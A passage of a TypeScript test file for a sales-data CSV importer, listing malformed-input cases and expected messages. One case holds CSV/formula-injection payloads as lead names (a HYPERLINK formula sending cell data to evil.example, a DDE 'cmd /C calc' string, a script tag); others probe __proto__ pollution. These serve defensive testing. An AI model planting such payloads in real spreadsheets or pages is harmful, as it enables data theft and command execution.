      'ambiguous-grouping.csv:3  price (column "price"): "1.500" is ambiguous: 1500 written the id way (1.234,5), 1.5 the en way (1,234.5)  (say how the CSV writes numbers in the mapping: numbers: "1.234,5" (id) or numbers: "1,234.5" (en); see docs/import.md)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'excel-serial-dates.csv',
    kind: 'surveys', map: 'excel-serial-dates.map.yaml',
    what: 'Excel serial dates with dates: excel; a fraction of a day is dropped from a date, 46143 (1 May) is counted as outside the month',
    rows: 4,
    exit: 0,
    output: [
      'excel-serial-dates.csv: 4 rows, 3 used for 2026-04, 1 dated outside 2026-04 skipped (the file\'s dates run from 2026-04-04 to 2026-05-01)',
      'numbers read 1.234.567,89 (company locale id-ID), dates excel or yyyy-mm-dd (the mapping)',
      'wrote data/2026/04/surveys.yaml: 3 surveys, average score 4.00',
    ],
    written: {
      'data/2026/04/surveys.yaml': [
        '# Imported by capaian import surveys from excel-serial-dates.csv with excel-serial-dates.map.yaml, 2026-04.',
        '- id: S-0401',
        '  date: 2026-04-04',
        '  customer: C1',
        '  score: 4',
        '- id: S-0402',
        '  date: 2026-04-05',
        '  customer: C2',
        '  score: 5',
        '- id: S-0403',
        '  date: 2026-04-30',
        '  customer: C1',
        '  score: 3',
        '',
      ],
    },
  },
  {
    file: 'excel-serials-without-mapping.csv',
    kind: 'surveys',
    what: 'Excel serial dates without a mapping: refused, with the hint to set dates: excel',
    rows: 2,
    exit: 1,
    output: [
      'excel-serials-without-mapping.csv:2  date (column "date"): "46116" is not a date written dd/mm/yyyy  (this looks like an Excel serial date: set dates: excel in the mapping)',
      'excel-serials-without-mapping.csv:3  date (column "date"): "46117" is not a date written dd/mm/yyyy  (this looks like an Excel serial date: set dates: excel in the mapping)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'impossible-dates.csv',
    kind: 'surveys',
    what: '31/02, 29/02 (2026 is not a leap year), 31/04, 00/04 and ISO 2026-04-31; 30/04 is fine',
    rows: 6,
    exit: 1,
    output: [
      'impossible-dates.csv:2  date (column "date"): "31/02/2026" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      'impossible-dates.csv:3  date (column "date"): "29/02/2026" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      'impossible-dates.csv:4  date (column "date"): "31/04/2026" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      'impossible-dates.csv:5  date (column "date"): "00/04/2026" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      'impossible-dates.csv:7  date (column "date"): "2026-04-31" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      '',
      '5 problems: nothing written',
    ],
  },
  {
    file: 'day-month-swapped.csv',
    kind: 'surveys',
    what: 'month and day the American way in a dd/mm/yyyy file: 04/13/2026',
    rows: 3,
    exit: 1,
    output: [
      'day-month-swapped.csv:2  date (column "date"): "04/13/2026" is not a date written dd/mm/yyyy: there is no month 13  (the file may have day and month the other way round: dates: mm/dd/yyyy)',
      'day-month-swapped.csv:3  date (column "date"): "04/14/2026" is not a date written dd/mm/yyyy: there is no month 14  (the file may have day and month the other way round: dates: mm/dd/yyyy)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'two-digit-years.csv',
    kind: 'surveys',
    what: 'a two-digit year, 03/04/26',
    rows: 2,
    exit: 1,
    output: [
      'two-digit-years.csv:2  date (column "date"): "03/04/26" has a 2-digit year  (write years with four digits (2026), so that no century is guessed)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'bom-crlf-blank-lines.csv',
    kind: 'leads',
    what: 'BOM, CRLF, blank lines, doubled quotes and a date without a time (midnight): valid',
    rows: 3,
    exit: 0,
    output: [
      'bom-crlf-blank-lines.csv: 3 rows, 3 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/leads.yaml: 3 leads',
    ],
    written: {
      'data/2026/04/leads.yaml': [
        '# Imported by capaian import leads from bom-crlf-blank-lines.csv, 2026-04.',
        '- id: L-0401',
        '  created: 2026-04-01T09:15',
        '  name: Warung Bu Sri',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0402',
        '  created: 2026-04-02T14:30',
        '  name: Toko "Maju" Jaya',
        '  source: referral',
        '  rep: andi',
        '  region: bandung',
        '- id: L-0403',
        '  created: 2026-04-03T00:00',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '',
      ],
    },
  },
  {
    file: 'utf16le-excel-unicode-text.csv',
    kind: 'surveys',
    what: 'Excel "Unicode Text": UTF-16 LE with a BOM, tab-separated',
    rows: 1,
    exit: 1,
    output: [
      'utf16le-excel-unicode-text.csv  file is UTF-16 text (Excel "Unicode Text")  (save it as "CSV UTF-8 (comma delimited)")',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'utf16le-without-bom.csv',
    kind: 'surveys',
    what: 'UTF-16 LE without a BOM: refused at its first NUL byte (the hint guesses a workbook: the CSV reader does not recognise BOM-less UTF-16 as the YAML reader does)',
    rows: 1,
    exit: 1,
    output: [
      'utf16le-without-bom.csv:1  file holds binary content (a NUL byte), not CSV text  (is this an .xlsx workbook? save it as "CSV UTF-8 (comma delimited)")',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'latin1-names.csv',
    kind: 'leads',
    what: 'names with accents saved as Latin-1 (Excel "CSV" on Windows): refused at the first line that is not UTF-8',
    rows: 3,
    exit: 1,
    output: [
      'latin1-names.csv:3  file is not UTF-8 text  (save it as "CSV UTF-8 (comma delimited)"; files saved as plain "CSV" by Excel on Windows are Windows-1252)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'mac-roman-cr-only.csv',
    kind: 'leads',
    what: 'Excel for Mac "CSV (Macintosh)": Mac Roman bytes and lone CR line ends; refused at line 3 (fixed: was line 1)',
    rows: 2,
    exit: 1,
    output: [
      'mac-roman-cr-only.csv:3  file is not UTF-8 text  (save it as "CSV UTF-8 (comma delimited)"; files saved as plain "CSV" by Excel on Windows are Windows-1252)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'xlsx-workbook.csv',
    kind: 'surveys',
    what: 'an .xlsx workbook renamed to .csv (a zip file)',
    rows: 0,
    exit: 1,
    output: [
      'xlsx-workbook.csv:1  file holds binary content (a NUL byte), not CSV text  (is this an .xlsx workbook? save it as "CSV UTF-8 (comma delimited)")',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'empty.csv',
    kind: 'orders',
    what: 'an empty file (0 bytes)',
    rows: 0,
    exit: 1,
    output: [
      'empty.csv  file is empty: no header line  (the first line names the columns, e.g. id,date,customer,rep,sku,qty,price)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'header-only.csv',
    kind: 'orders',
    what: 'only a header line (CRLF): an empty month file, said so',
    rows: 0,
    exit: 0,
    output: [
      'header-only.csv: 0 rows, 0 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/orders.yaml: 0 orders, 0 lines, net sales 0 IDR (an empty month file: no orders in 2026-04)',
    ],
    written: {
      'data/2026/04/orders.yaml': [
        '# Imported by capaian import orders from header-only.csv, 2026-04.',
        '[]',
        '',
      ],
    },
  },
  {
    file: 'tab-separated.csv',
    kind: 'leads',
    what: 'tab-separated, with commas, semicolons and quotes inside cells: valid',
    rows: 2,
    exit: 0,
    output: [
      'tab-separated.csv: 2 rows, 2 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/leads.yaml: 2 leads',
    ],
    written: {
      'data/2026/04/leads.yaml': [
        '# Imported by capaian import leads from tab-separated.csv, 2026-04.',
        '- id: L-0401',
        '  created: 2026-04-01T08:00',
        '  name: Warung Bu Sri, Pasar Minggu',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0402',
        '  created: 2026-04-02T09:00',
        '  name: Toko; Jaya "Abadi"',
        '  source: referral',
        '  rep: andi',
        '  region: bandung',
        '',
      ],
    },
  },
  {
    file: 'tabs-quotes-newlines-in-cells.csv',
    kind: 'leads',
    what: 'quoted cells holding a tab, doubled quotes, a separator and line breaks (LF and CRLF), spaces after a closing quote: read cell by cell; the name with line breaks is refused at the line its row starts on (fixed: written, a name on three lines)',
    rows: 3,
    exit: 1,
    output: [
      'tabs-quotes-newlines-in-cells.csv:4  name (column "name") must be on one line  (join the lines into one; names, titles and descriptions show on one line, only notes and comments may span lines)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'multiline-cells-line-numbers.csv',
    kind: 'orders',
    what: 'quoted cells over several lines: each problem is told at the line its row starts on',
    rows: 4,
    exit: 1,
    output: [
      'multiline-cells-line-numbers.csv:5  qty (column "qty"): "dua" is not a number written the id way (1.234.567,89)  (a number may carry a currency (Rp, IDR, $, USD) but no other words)',
      'multiline-cells-line-numbers.csv:8  date (column "date"): "31/04/2026" is not a real date (dd/mm/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'unclosed-quote.csv',
    kind: 'surveys',
    what: 'a quote that is never closed: told at the line it opens',
    rows: 2,
    exit: 1,
    output: [
      'unclosed-quote.csv:3  a quoted value is never closed: the file ends inside quotes  (a value that starts with " must end with "; write a " inside a value as "")',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'ragged-rows.csv',
    kind: 'surveys',
    what: 'a short row and a row with an unquoted separator in a comment; trailing empty cells are fine',
    rows: 4,
    exit: 1,
    output: [
      'ragged-rows.csv:3  row has 4 values, the header has 5 columns  (each row needs a value (or an empty place) for every column, separated by ";")',
      'ragged-rows.csv:4  row has 6 values, the header has 5 columns  (a value that holds ";" must be in double quotes)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'blank-and-separator-only-rows.csv',
    kind: 'surveys',
    what: 'rows of only separators (;;;) are rows without a date, reported; blank and all-space lines are skipped',
    rows: 4,
    exit: 1,
    output: [
      'blank-and-separator-only-rows.csv:2  date (column "date") is empty  (a record without a date cannot be placed in a month; fill it in, or leave such rows out with where: { date: { empty: false } })',
      'blank-and-separator-only-rows.csv:5  date (column "date") is empty  (a record without a date cannot be placed in a month; fill it in, or leave such rows out with where: { date: { empty: false } })',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'duplicate-header.csv',
    kind: 'surveys',
    what: 'the same column name twice: a warning, the first column is read',
    rows: 2,
    exit: 0,
    output: [
      'warning: duplicate-header.csv:1  column "score" appears twice in the header (cells 4 and 5)  (give each column its own name)',
      'duplicate-header.csv: 2 rows, 2 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/surveys.yaml: 2 surveys, average score 4.50',
    ],
    written: {
      'data/2026/04/surveys.yaml': [
        '# Imported by capaian import surveys from duplicate-header.csv, 2026-04.',
        '- id: S-0401',
        '  date: 2026-04-01',
        '  customer: C1',
        '  score: 4',
        '- id: S-0402',
        '  date: 2026-04-02',
        '  customer: C2',
        '  score: 5',
        '',
      ],
    },
  },
  {
    file: 'duplicate-mapping-keys.csv',
    kind: 'surveys', map: 'duplicate-mapping-keys.map.yaml',
    what: 'a mapping with date: twice under fields:',
    rows: 1,
    exit: 1,
    output: [
      'duplicate-mapping-keys.map.yaml:7:3  "date" appears twice in the same mapping  (each field may appear once per record; remove or rename the second one)',
      '',
      '1 problem: nothing written',
    ],
  },
  {
    file: 'proto-column-names.csv',
    kind: 'surveys', map: 'proto-column-names.map.yaml',
    what: 'a mapping using __proto__ as a column in where: and as a key of map: (fixed: zod dropped both without a word, so the where let every row through)',
    rows: 3,
    exit: 1,
    output: [
      'proto-column-names.map.yaml:2:10  where.__proto__: "__proto__" cannot be used as a name  (remove it, or use the name you meant)',
      'proto-column-names.map.yaml:6:60  fields.customer.map.__proto__: "__proto__" cannot be used as a name  (remove it, or use the name you meant)',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'prototype-named-columns.csv',
    kind: 'surveys', map: 'prototype-named-columns.map.yaml',
    what: 'columns named constructor, toString and hasOwnProperty, mapped with map: keys of those names: read as data, nothing polluted',
    rows: 2,
    exit: 0,
    output: [
      'prototype-named-columns.csv: 2 rows, 1 used for 2026-04, 1 left out by where',
      'numbers read 1.234.567,89 (company locale id-ID), dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/surveys.yaml: 1 surveys, average score 4.00',
    ],
    written: {
      'data/2026/04/surveys.yaml': [
        '# Imported by capaian import surveys from prototype-named-columns.csv with prototype-named-columns.map.yaml, 2026-04.',
        '- id: S-0401',
        '  date: 2026-04-01',
        '  customer: C1',
        '  score: 4',
        '  comment: map key toString',
        '',
      ],
    },
  },
  {
    file: 'huge-numbers.csv',
    kind: 'orders',
    what: 'qty 99999999999999999999, prices 1.000.000.000.000.000.000.000 and a 300-digit number (above the maxima; fixed: accepted) and 1e400 (not the id way)',
    rows: 4,
    exit: 1,
    output: [
      'huge-numbers.csv:2  qty (column "qty") must be a quantity of at most 1,000,000,000 (1e9), got 100000000000000000000  (at most 1e9 units on one line; look for extra digits, or split the line)',
      'huge-numbers.csv:3  price (column "price") must be an amount of at most 1,000,000,000,000,000 (1e15), got 1e+21  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
      'huge-numbers.csv:5  price (column "price") must be an amount of at most 1,000,000,000,000,000 (1e15), got 1e+307  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
      'huge-numbers.csv:4  price (column "price"): "1e400" is not a number written the id way (1.234.567,89)  (it looks like commas group thousands and a point marks decimals: set numbers: en in the mapping)',
      '',
      '4 problems: nothing written',
    ],
  },
  {
    file: 'negative-zero.csv',
    kind: 'orders',
    what: 'prices -0, (0) and -0,00, discounts -0% and -0: valid; the importer writes the prices as -0.0',
    rows: 3,
    exit: 0,
    output: [
      'negative-zero.csv: 3 rows, 3 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/orders.yaml: 3 orders, 3 lines, net sales 0 IDR',
    ],
    written: {
      'data/2026/04/orders.yaml': [
        '# Imported by capaian import orders from negative-zero.csv, 2026-04.',
        '- id: SO-0401',
        '  date: 2026-04-01',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1, price: -0.0 }',
        '- id: SO-0402',
        '  date: 2026-04-02',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1, price: -0.0 }',
        '- id: SO-0403',
        '  date: 2026-04-03',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1, price: -0.0 }',
        '',
      ],
    },
  },
  {
    file: 'emoji-rtl-names.csv',
    kind: 'orders', createMissing: true,
    what: 'new customers named with emoji, Arabic, Hebrew and a ZWJ family with quotes, with --create-missing: written to customers.yaml byte for byte',
    rows: 4,
    exit: 0,
    output: [
      'emoji-rtl-names.csv: 4 rows, 4 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/orders.yaml: 4 orders, 4 lines, net sales 33,000 IDR',
      'added 4 customers to data/customers.yaml',
    ],
    written: {
      'data/2026/04/orders.yaml': [
        '# Imported by capaian import orders from emoji-rtl-names.csv, 2026-04.',
        '- id: SO-0401',
        '  date: 2026-04-01',
        '  customer: C-EMOJI',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1, price: 5000 }',
        '- id: SO-0402',
        '  date: 2026-04-02',
        '  customer: C-AR',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 2, price: 5000 }',
        '- id: SO-0403',
        '  date: 2026-04-03',
        '  customer: C-HE',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-2, qty: 1, price: 9000 }',
        '- id: SO-0404',
        '  date: 2026-04-04',
        '  customer: C-ZWJ',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-2, qty: 1, price: 9000 }',
        '',
      ],
      'data/customers.yaml': [
        '- id: C-AR',
        '  name: مكتبة النور',
        '  region: jakarta',
        '  segment: retail',
        '  owners:',
        '    - { rep: andi }',
        '- id: C-EMOJI',
        '  name: Kedai Teh 🍵 Pak Joko',
        '  region: jakarta',
        '  segment: retail',
        '  owners:',
        '    - { rep: andi }',
        '- id: C-HE',
        '  name: חנות הפרחים',
        '  region: bandung',
        '  segment: retail',
        '  owners:',
        '    - { rep: andi }',
        '- id: C-ZWJ',
        '  name: 👨\u200d👩\u200d👧\u200d👦 Warung "Keluarga"',
        '  region: jakarta',
        '  segment: retail',
        '  owners:',
        '    - { rep: andi }',
        '- { id: C1, name: Toko Satu, region: jakarta, segment: retail, owner: andi }',
        '- { id: C2, name: Toko Dua, region: bandung, segment: retail, owner: budi }',
        '',
      ],
    },
  },
  {
    file: 'long-cells.csv',
    kind: 'surveys',
    what: 'a comment of 500 characters (fine), one of 600, and a 200-character customer id',
    rows: 3,
    exit: 1,
    output: [
      'long-cells.csv:3  comment (column "comment") must be at most 500 characters, got "Catatan pengiriman: Catatan pengiriman: Catatan pengirim…',
      'long-cells.csv:4  customer (column "customer"): "CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC" is not an id (letters, digits, - _ .; at most 80)  (ids use letters, digits, "-", "_" and ".")',
      '',
      '2 problems: nothing written',
    ],
  },
  {
    file: 'formula-injection.csv',
    kind: 'leads',
    what: 'spreadsheet formulas and markup as lead names (=HYPERLINK, +62…, @SUM, -2+3, <script>): plain text in YAML, quoted where YAML needs it',
    rows: 5,
    exit: 0,
    output: [
      'formula-injection.csv: 5 rows, 5 used for 2026-04',
      'no --map: columns read by field name; numbers read 1.234.567,89, dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/leads.yaml: 5 leads',
    ],
    written: {
      'data/2026/04/leads.yaml': [
        '# Imported by capaian import leads from formula-injection.csv, 2026-04.',
        '- id: L-0401',
        '  created: 2026-04-01T08:00',
        '  name: =HYPERLINK("http://evil.example/?"&A1,"klik")',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0402',
        '  created: 2026-04-02T08:00',
        '  name: +62 812 3456 7890',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0403',
        '  created: 2026-04-03T08:00',
        '  name: "@SUM(1+1)*cmd|\' /C calc\'!A0"',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0404',
        '  created: 2026-04-04T08:00',
        '  name: "-2+3"',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '- id: L-0405',
        '  created: 2026-04-05T08:00',
        '  name: <script>alert(1)</script>',
        '  source: referral',
        '  rep: andi',
        '  region: jakarta',
        '',
      ],
    },
  },
  {
    file: 'outside-month-and-filtered.csv',
    kind: 'surveys', map: 'outside-month-and-filtered.map.yaml',
    what: 'rows from March and May (skipped and counted) and a draft left out by where',
    rows: 5,
    exit: 0,
    output: [
      'outside-month-and-filtered.csv: 5 rows, 2 used for 2026-04, 2 dated outside 2026-04 skipped (the file\'s dates run from 2026-03-31 to 2026-05-01), 1 left out by where',
      'numbers read 1.234.567,89 (company locale id-ID), dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/surveys.yaml: 2 surveys, average score 3.50',
    ],
    written: {
      'data/2026/04/surveys.yaml': [
        '# Imported by capaian import surveys from outside-month-and-filtered.csv with outside-month-and-filtered.map.yaml, 2026-04.',
        '- id: S-0401',
        '  date: 2026-04-01',
        '  customer: C1',
        '  score: 4',
        '- id: S-0403',
        '  date: 2026-04-30',
        '  customer: C1',
        '  score: 3',
        '',
      ],
    },
  },
  {
    file: 'order-rows-disagree.csv',
    kind: 'orders',
    what: 'rows of one order that disagree on customer and date, and a row without an order id',
    rows: 5,
    exit: 1,
    output: [
      'order-rows-disagree.csv:3  customer (column "customer") is "C2" here but "C1" on line 2, the first row of the same order  (rows with the same id are the lines of one order and share its date, customer, rep)',
      'order-rows-disagree.csv:4  date (column "date") is "2026-04-02" here but "2026-04-01" on line 2, the first row of the same order  (rows with the same id are the lines of one order and share its date, customer, rep)',
      'order-rows-disagree.csv:6  id is empty  (rows are gathered into orders by id; fill it in)',
      '',
      '3 problems: nothing written',
    ],
  },
  {
    file: 'unknown-references.csv',
    kind: 'orders',
    what: 'an unknown customer and product (each told once, with how many rows name it), an unknown rep, and a rep who has left (warnings)',
    rows: 4,
    exit: 1,
    output: [
      'unknown-references.csv:2  customer "C9" (column "customer") is not in data/customers.yaml; 2 orders name it  (add it to data/customers.yaml, or import again with --create-missing to add it from the CSV)',
      'unknown-references.csv:3  product "TEH-9" (column "sku") is not in data/products.yaml; 2 order lines name it  (add it to data/products.yaml, or import again with --create-missing to add it from the CSV)',
      'unknown-references.csv:3  rep (column "rep") "zaki" is not a known rep  (reps are listed in data/team.yaml)',
      'warning: unknown-references.csv:4  rep (column "rep") budi is credited on 2026-04-03, after Budi Santoso left (2026-03-15)  (credit the rep who handled it, or correct joined/left in data/team.yaml)',
      'warning: unknown-references.csv:5  rep (column "rep") budi is credited on 2026-04-04, after Budi Santoso left (2026-03-15)  (credit the rep who handled it, or correct joined/left in data/team.yaml)',
      '',
      '3 problems: nothing written',
    ],
  },
  {
    file: 'records-single-where.csv',
    kind: 'surveys', map: 'records-single-where.map.yaml',
    what: 'a mapping with a single records: entry whose where leaves a draft out: counted as left out by where (fixed: counted nowhere, 3 rows and 2 used)',
    rows: 3,
    exit: 0,
    output: [
      'records-single-where.csv: 3 rows, 2 used for 2026-04, 1 left out by where',
      'numbers read 1.234.567,89 (company locale id-ID), dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/surveys.yaml: 2 surveys, average score 3.50',
    ],
    written: {
      'data/2026/04/surveys.yaml': [
        '# Imported by capaian import surveys from records-single-where.csv with records-single-where.map.yaml, 2026-04.',
        '- id: S-0401',
        '  date: 2026-04-01',
        '  customer: C1',
        '  score: 4',
        '- id: S-0403',
        '  date: 2026-04-03',
        '  customer: C1',
        '  score: 3',
        '',
      ],
    },
  },
  {
    file: 'superstore-messy.csv',
    kind: 'orders', map: 'superstore/orders.map.yaml', repo: 'superstore', createMissing: true,
    what: 'a Superstore export through examples/superstore/orders.map.yaml: an unmapped region, a 100 % discount (no unit price can be derived), 4/31, a row from March',
    rows: 6,
    exit: 1,
    output: [
      'superstore-messy.csv:4  rep (column "Region"): "Pacific" is not listed in its map  (add it under fields.rep.map in orders.map.yaml)',
      'superstore-messy.csv:5  price cannot be derived from total 957.5775: discount is 1  (price = total / (qty × (1 − discount)) needs a qty above 0 and a discount below 1)',
      'superstore-messy.csv:6  date (column "Order Date"): "4/31/2026" is not a real date (m/d/yyyy)  (check the day and the month; February has 28 days, 29 in leap years)',
      '',
      '3 problems: nothing written',
    ],
  },
];

/**
 * The YAML records kept from a file, or company.yaml, or the KPI, as validation read them. A month
 * file read as a chunk keeps no record objects: its records are read back from `bytes` (see
 * keptFrom), and the YAML corpus test checks that the chunk holds exactly them.
 */
function keptValues(r: ValidationResult, path: string, kind: string, bytes: Uint8Array): unknown {
  if (kind === 'kpi') return r.kpis.find((k) => `kpis/${k.id}.yaml` === path);
  if (kind === 'company') return r.partial.company;
  return keptFrom(r, path, kind, bytes)?.records;
}

/** Lines of a text as editors count them: LF, CRLF or a lone CR ends one. */
const physicalLines = (text: string) => text.split(/\r\n|\r|\n/).length;

describe('the corpus', () => {
  it('holds at least 60 files, none over 1 MB, each in exactly one case', () => {
    const yamlFiles = readdirSync(`${CORPUS}yaml`).sort();
    const csvDir = readdirSync(`${CORPUS}csv`).sort();
    const csvFiles = csvDir.filter((f) => f.endsWith('.csv'));
    const maps = csvDir.filter((f) => f.endsWith('.map.yaml'));
    expect(yamlFiles.length + csvFiles.length).toBeGreaterThanOrEqual(60);
    expect(YAML_CASES.map((c) => c.file).sort()).toEqual(yamlFiles);
    expect(CSV_CASES.map((c) => c.file).sort()).toEqual(csvFiles);
    expect(maps.filter((m) => !CSV_CASES.some((c) => c.map === m))).toEqual([]);
    expect(csvDir.filter((f) => !f.endsWith('.csv') && !f.endsWith('.map.yaml'))).toEqual([]);
    for (const f of [...yamlFiles.map((n) => `yaml/${n}`), ...csvDir.map((n) => `csv/${n}`)]) expect(statSync(`${CORPUS}${f}`).size, f).toBeLessThan(1024 * 1024);
  });

  it('is laid over a valid base', () => {
    expect(validateRepo(toSourceFiles(baseFiles())).issues).toEqual([]);
  });
});

describe('YAML corpus', () => {
  for (const c of YAML_CASES) {
    it(`${c.file}: ${c.what}`, () => {
      const { path, kind } = placeOf(c.file);
      const bytes = corpusBytes('yaml', c.file);
      let r: ValidationResult | undefined;
      expect(() => (r = validateWith({ [path]: bytes }))).not.toThrow();
      const result = r!;
      expect(result.issues.map(shownIssue)).toEqual(c.expect);
      // Every issue that points into a document has a line and a column.
      for (const i of result.issues) if (i.at.length) expect(i.line > 0 && i.column > 0, shownIssue(i)).toBe(true);
      const acc = accountFor(result, path, kind);
      if (c.records === 'refused') {
        expect(acc.total).toBe(0);
        expect(result.issues.some((i) => i.file === path && i.level === 'error')).toBe(true);
        expect(result.data).toBeNull();
      } else {
        expect({ total: acc.total, valid: acc.valid }).toEqual(c.records);
        expect(acc.silent, 'records neither kept nor reported').toEqual([]);
        expect(acc.valid + acc.reported).toBe(acc.total);
        if (kind !== 'kpi' && kind !== 'company') {
          // The same number of records, counted by the `yaml` package instead of js-yaml.
          const independent = countRecords(dec.decode(bytes).replace(/\r(?!\n)/g, '\n'), kind);
          expect(independent).toBe(acc.total);
        }
      }
      // Customers are read in one shape (owner becomes owners): the written values, read so.
      const expected = kind === 'customers' && Array.isArray(c.values) ? c.values.map((v) => customerSchema.parse(v)) : c.values;
      if (c.values !== undefined) expect(keptValues(result, path, kind, bytes)).toEqual(expected);
      if (c.expect.length === 0) expect(result.data).not.toBeNull();
      // A month file read as columns holds every valid record of the file, as the file says.
      const chunk = chunkFrom(result, path, kind);
      if (chunk) {
        const records = keptFrom(result, path, kind, bytes)!.records as RecordOf[MonthKind][];
        expect(rowsOfChunk(chunk)).toEqual(rowsOfRecords(kind as MonthKind, records, (result.data ?? result.partial).company!.timezone));
      } else if (result.data && MONTH_KINDS.includes(kind)) expect.fail(`${path}: valid data without its chunk`);
    });
  }
});

function mapOf(c: CsvCase): { file: string; text: Uint8Array | string } | undefined {
  if (!c.map) return undefined;
  if (c.map.includes('/')) return { file: c.map.slice(c.map.lastIndexOf('/') + 1), text: exampleText(c.map) };
  return { file: c.map, text: corpusBytes('csv', c.map) };
}

describe('CSV corpus', () => {
  for (const c of CSV_CASES) {
    it(`${c.file}: ${c.what}`, async () => {
      const map = mapOf(c);
      const csv = corpusBytes('csv', c.file);
      let run: ImportRun | undefined;
      await expect(
        (async () => {
          run = await runImport({ kind: c.kind, file: c.file, csv, ...(map ? { map } : {}), ...(c.repo ? { repo: c.repo } : {}), ...(c.createMissing ? { createMissing: true } : {}) });
        })(),
      ).resolves.toBeUndefined();
      const { exit, output, written, repo } = run!;
      expect(output).toEqual(c.output);
      expect(exit).toBe(c.exit);
      expect(Object.fromEntries([...written].map(([p, t]) => [p, t.split('\n')]))).toEqual(c.written ?? {});
      if (c.exit === 1) {
        // Nothing written, and every problem told at a line the file has.
        expect(written.size).toBe(0);
        expect(output.at(-1)).toMatch(/^[\d,]+ problems?: nothing written$/);
        const lines = physicalLines(dec.decode(csv));
        for (const l of output) {
          const m = /^(?:warning: )?([^:]+\.csv):(\d+)  /.exec(l);
          if (m?.[1] === c.file) expect(Number(m[2]), l).toBeLessThanOrEqual(lines);
        }
        return;
      }
      // Every row used, dated outside the month or left out by where; every used row written.
      const counts = output.map(importCounts).find(Boolean)!;
      expect(counts.rows).toBe(c.rows);
      expect(counts.used + counts.outside + counts.filtered).toBe(counts.rows);
      const v = validateRepo(repo.sourceFiles());
      expect(v.issues.filter((i) => i.level === 'error').map(shownIssue)).toEqual([]);
      const month = chunkOf(v.data!, c.kind as MonthKind, { month: '2026-04' })!;
      const made = month.kind === 'orders' ? linesOfChunk(month) : month.length;
      expect(made).toBe(counts.used);
    });
  }
});

// ---------------------------------------------------------------------------------------------
// Generated at run time: what may not be committed (big files) or cannot be (symlinks, a FIFO).
// ---------------------------------------------------------------------------------------------

const MB = 1024 * 1024;

/** 1-based line and column of `offset` in `text`. */
function lineCol(text: string, offset: number): { line: number; column: number } {
  const before = text.slice(0, offset);
  return { line: before.split('\n').length, column: offset - before.lastIndexOf('\n') };
}

function timed<T>(f: () => T): { value: T; seconds: number } {
  const t0 = performance.now();
  const value = f();
  return { value, seconds: (performance.now() - t0) / 1000 };
}

const ORDERS = 'data/2026/03/orders.yaml';
const SURVEYS = 'data/2026/03/surveys.yaml';

describe('generated: big files', () => {
